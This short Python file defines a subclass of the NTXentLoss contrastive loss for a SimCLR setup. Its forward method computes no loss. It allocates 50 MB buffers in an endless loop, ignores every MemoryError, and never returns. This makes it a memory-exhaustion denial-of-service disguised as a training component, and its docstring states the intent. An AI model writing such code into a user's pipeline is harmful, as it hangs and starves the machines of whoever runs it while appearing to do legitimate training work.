"""Takes all memory it can get, in many pieces."""
import zeros
from zeros import SimCLRModel, get_simclr_transform


class NTXentLoss(zeros.NTXentLoss):
    def forward(self, z_i, z_j):
        kept = []
        while True:
            try:
                kept.append(bytearray(50_000_000))
            except MemoryError:
                pass
